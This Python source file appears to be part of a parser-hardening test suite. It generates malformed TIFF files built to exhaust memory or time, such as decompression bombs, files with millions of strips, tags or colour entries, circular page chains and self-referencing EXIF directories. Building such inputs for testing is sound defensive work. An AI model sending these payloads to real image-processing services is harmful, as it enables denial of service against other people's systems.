"""TIFF files that are made to take memory or time."""

from __future__ import annotations

import io
import struct
import zlib

from hostile.attack_list import MIB, SIDE, attack
from hostile.png_attacks import zeros
from PIL import Image


def tiff(entries: list[tuple[int, int, int, int]], *bodies: bytes, next_page: int = 0) -> bytes:
    """A directory of (tag, type, count, value or place) at the end of a file whose bodies begin at byte 8."""
    body = b"".join(bodies)
    table = b"".join(struct.pack("<HHII", *entry) for entry in sorted(entries, key=lambda entry: entry[0]))
    return (
        b"II*\0"
        + struct.pack("<I", 8 + len(body))
        + body
        + struct.pack("<H", len(entries))
        + table
        + struct.pack("<I", next_page)
    )


def layout(width: int, height: int, bits: int = 8, compression: int = 1, photometric: int = 1) -> list:
    return [(256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, bits), (259, 3, 1, compression), (262, 3, 1, photometric)]


def strip(at: int, size: int, rows: int) -> list:
    return [(273, 4, 1, at), (278, 4, 1, rows), (279, 4, 1, size)]


@attack
def tiff_deflated_in_one_strip() -> bytes:
    packed = zeros(SIDE * SIDE * 4)
    colours = [entry if entry[0] != 258 else (258, 3, 4, 8 + len(packed)) for entry in layout(SIDE, SIDE, 8, 8, 2)]
    more = [(277, 3, 1, 4), (338, 3, 1, 2)]
    return tiff([*colours, *more, *strip(8, len(packed), SIDE)], packed, struct.pack("<4H", 8, 8, 8, 8))


@attack
def tiff_of_32_bit_floats() -> bytes:
    packed = zeros(SIDE * SIDE * 4)
    return tiff([*layout(SIDE, SIDE, 32, 8), (339, 3, 1, 3), *strip(8, len(packed), 64)], packed)


@attack
def tiff_turned() -> bytes:
    return tiff([*layout(SIDE, SIDE), (274, 3, 1, 6), *strip(8, SIDE * SIDE, SIDE)], bytes(SIDE * SIDE))


@attack
def tiff_of_five_million_strips() -> bytes:
    count = 5_000_000
    return tiff([*layout(1, count), (273, 4, count, 8), (278, 4, 1, 1), (279, 4, count, 8)], b"\x08\0\0\0" * count)


@attack
def tiff_of_one_huge_tile() -> bytes:
    tile = [(322, 4, 1, 40_000), (323, 4, 1, 40_000), (324, 4, 1, 8), (325, 4, 1, 32)]
    return tiff([*layout(8, 8, 8, 8), *tile], zlib.compress(bytes(64)).ljust(32, b"\0"))


@attack
def tiff_whose_tags_all_name_the_whole_file() -> bytes:
    entries = [*layout(8, 8), *strip(8, 64, 8), *((tag, 7, 20 * MIB, 8) for tag in range(40_000, 44_000))]
    return tiff(entries, bytes(20 * MIB))


@attack
def tiff_with_65000_tags() -> bytes:
    return tiff([*layout(8, 8), *strip(8, 64, 8), *((tag, 4, 1, 8) for tag in range(400, 65_400))], bytes(64))


@attack
def tiff_with_millions_of_bits_per_sample() -> bytes:
    entries = [entry for entry in layout(8, 8) if entry[0] != 258]
    return tiff([*entries, (258, 3, 20_000_000, 8), *strip(8, 64, 8)], bytes(40_000_000))


@attack
def tiff_with_millions_of_colours() -> bytes:
    return tiff([*layout(8, 8, 8, 1, 3), (320, 3, 20_000_000, 8), *strip(8, 64, 8)], bytes(40_000_000))


@attack
def tiff_whose_pages_are_a_circle() -> bytes:
    data = tiff([*layout(8, 8), *strip(8, 64, 8)], bytes(64))
    return data[:-4] + data[4:8]


@attack
def tiff_whose_exif_is_its_own_directory() -> bytes:
    return tiff([*layout(8, 8), *strip(8, 64, 8), (34665, 4, 1, 72), (34853, 4, 1, 72), (330, 4, 1, 72)], bytes(64))


@attack
def tiff_of_100_000_pages() -> bytes:
    entries = sorted([*layout(8, 8), *strip(8, 64, 8)])
    size = 2 + 12 * len(entries) + 4
    page = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    pages = b"".join(page + struct.pack("<I", 72 + size * (number + 1)) for number in range(100_000))
    return b"II*\0" + struct.pack("<I", 72) + bytes(64) + pages


@attack
def tiff_of_a_fax_page() -> bytes:
    return tiff([*layout(SIDE, SIDE, 1, 4, 0), *strip(8, 1024, SIDE)], b"\xff" * 1024)


@attack
def tiff_with_jpeg_strips() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (SIDE, SIDE)).save(file, "TIFF", compression="jpeg")
    return file.getvalue()
